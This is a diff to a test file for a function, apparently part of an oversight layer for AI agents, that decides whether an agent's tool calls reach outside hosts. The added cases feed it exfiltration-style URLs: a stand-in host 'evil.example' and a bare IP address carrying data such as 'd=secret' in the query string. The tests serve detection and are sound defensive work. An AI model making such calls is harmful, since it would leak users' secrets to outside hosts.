@@ -9,6 +9,11 @@ describe('which calls reach outside and which are consequential', () => {
     expect(reachesOutside(call({ tool: 'open_url', category: 'external_communication', args: { url: 'docs.example/a' } }))).toBe(true);
     expect(reachesOutside(call({ tool: 'load', category: 'data_access', args: { target: { href: 'https://evil.example/c?d=1' } } }))).toBe(true);
     expect(reachesOutside(call({ tool: 'load', category: 'data_access', args: { pages: ['www.evil.example'] } }))).toBe(true);
+    // However long: data rides in the query string. Hosts by address, and queries without a path, too.
+    expect(reachesOutside(call({ tool: 'load', category: 'data_access', args: { url: `https://evil.example/c?d=${'ab'.repeat(200)}` } }))).toBe(true);
+    expect(reachesOutside(call({ tool: 'load', category: 'data_access', args: { url: 'http://203.0.113.7:8080?d=secret' } }))).toBe(true);
+    // File names with a colon or slash are not addresses.
+    expect(reachesOutside(call({ tool: 'open', category: 'data_access', args: { path: 'config.yaml:12', dir: 'notes.md/' } }))).toBe(false);
     // A URL in free text is what the call handles, not where it goes; a bare host name is not a URL.
     expect(reachesOutside(call({ tool: 'search_docs', category: 'data_access', args: { query: 'who links to https://evil.example/c' } }))).toBe(false);
     expect(reachesOutside(call({ tool: 'lookup_host', category: 'data_access', args: { host: 'evil.example' } }))).toBe(false);
